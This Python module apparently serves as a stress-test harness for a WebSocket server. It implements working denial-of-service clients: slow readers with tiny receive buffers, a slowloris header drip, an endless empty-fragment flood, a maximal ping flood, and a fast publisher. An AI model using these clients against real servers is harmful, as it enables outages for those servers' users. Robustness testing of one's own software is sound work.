"""Clients that mean harm, each kind in a process of its own, until a time that is set from the start."""

import contextlib
import multiprocessing
import os
import resource
import selectors
import socket
import time

import upgrade

# A text message that begins and never ends, in fragments with nothing in them.
FIRST = b"\x01\x81\0\0\0\0a"
FRAGMENTS = b"\x00\x80\0\0\0\0" * 10_000
PINGS = b"\x89\xfd\0\0\0\0" + bytes(125)
PINGS *= 500
# Of a slow reader: the least the system grants.
SMALL_BUFFER = 4_096
NICE = 10
# Connections begun in one go, so that none waits in the backlog for long.
AT_ONCE = 100


class Attack(multiprocessing.Process):
    """Keeps `count` connections that do harm; whoever is cut off comes back."""

    path = "/echo"
    # How often `again` is called.
    pace = None

    def __init__(self, address, count, until):
        super().__init__(daemon=True)
        host, port = address.rsplit(":", 1)
        self.address, self.count, self.until = (host, int(port)), count, until
        self.head = upgrade.head(address, self.path)
        self.cut_off = multiprocessing.Value("Q", 0)
        # Bytes that the other side has taken.
        self.sent = multiprocessing.Value("Q", 0)
        self.selector = None
        self.open = set()

    def run(self):
        # They would have a machine of their own.
        os.nice(NICE)
        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        self.selector = selectors.EpollSelector()
        next_time = time.monotonic()
        while time.monotonic() < self.until:
            for _ in range(min(AT_ONCE, self.count - len(self.open))):
                self.connect()
            for key, events in self.selector.select(0.05):
                try:
                    self.ready(key.fileobj, events)
                except BlockingIOError:
                    pass
                except OSError:
                    self.lose(key.fileobj)
            if self.pace and time.monotonic() >= next_time:
                next_time = max(next_time + self.pace, time.monotonic())
                self.each(self.again)

    def connect(self):
        connection = socket.socket()
        try:
            self.prepare(connection)
            connection.connect(self.address)
            connection.setblocking(False)
            self.begin(connection)
        except OSError:
            connection.close()
            self.cut_off.value += 1
            return
        self.open.add(connection)
        self.watch(connection)

    def lose(self, connection):
        with contextlib.suppress(KeyError):
            self.selector.unregister(connection)
        self.open.discard(connection)
        connection.close()
        self.cut_off.value += 1

    def each(self, action):
        for connection in list(self.open):
            try:
                action(connection)
            except BlockingIOError:
                pass
            except OSError:
                self.lose(connection)

    def prepare(self, connection):
        """Before it connects."""

    def begin(self, connection):
        connection.send(self.head + b"\r\n")

    def watch(self, connection):
        self.selector.register(connection, selectors.EVENT_READ)

    def ready(self, connection, events):
        if not connection.recv(1 << 18):
            self.lose(connection)

    def again(self, connection):
        """At the pace of the attack."""


class SlowReaders(Attack):
    """Subscribe to a room, and read nothing of it: not even that they have been cut off."""

    path = "/mirror/fire"

    def prepare(self, connection):
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL_BUFFER)

    def watch(self, connection):
        """Nothing that it is sent is of any interest."""


class SlowLoris(Attack):
    """Begin a request, and go on with it by a header each second."""

    pace = 1.0

    def begin(self, connection):
        connection.send(self.head)

    def again(self, connection):
        connection.send(b"X-More: to come\r\n")


class Flood(Attack):
    """Send the same again and again, as fast as it is taken."""

    first, flood = b"", b""

    def begin(self, connection):
        connection.send(self.head + b"\r\n" + self.first)

    def watch(self, connection):
        self.selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE)

    def ready(self, connection, events):
        if events & selectors.EVENT_READ:
            super().ready(connection, events)
        # What was taken of the last one may have ended anywhere: the rest of it goes first.
        if connection.fileno() >= 0 and events & selectors.EVENT_WRITE:
            rest = self.rests.get(connection) or self.flood
            sent = connection.send(rest)
            self.sent.value += sent
            self.rests[connection] = rest[sent:]

    def lose(self, connection):
        self.rests.pop(connection, None)
        super().lose(connection)

    def run(self):
        self.rests = {}
        super().run()


class FragmentFlood(Flood):
    """A message in endless empty fragments."""

    first, flood = FIRST, FRAGMENTS


class PingFlood(Flood):
    """Pings as large as may be."""

    flood = PINGS


class Publisher(multiprocessing.Process):
    """Says a kilobyte to the room of the slow readers, a thousand times a second; means no harm itself."""

    PACE = 0.001
    MESSAGE = b"\x82\xfe\x04\0\0\0\0\0" + bytes(1_024)

    def __init__(self, address, until):
        super().__init__(daemon=True)
        host, port = address.rsplit(":", 1)
        self.address, self.until = (host, int(port)), until
        self.head = upgrade.head(address, SlowReaders.path)
        self.sent = multiprocessing.Value("Q", 0)

    def run(self):
        with socket.create_connection(self.address) as connection:
            connection.sendall(self.head + b"\r\n")
            next_time = time.monotonic()
            while time.monotonic() < self.until:
                connection.sendall(self.MESSAGE)
                self.sent.value += 1
                next_time += self.PACE
                time.sleep(max(0.0, next_time - time.monotonic()))
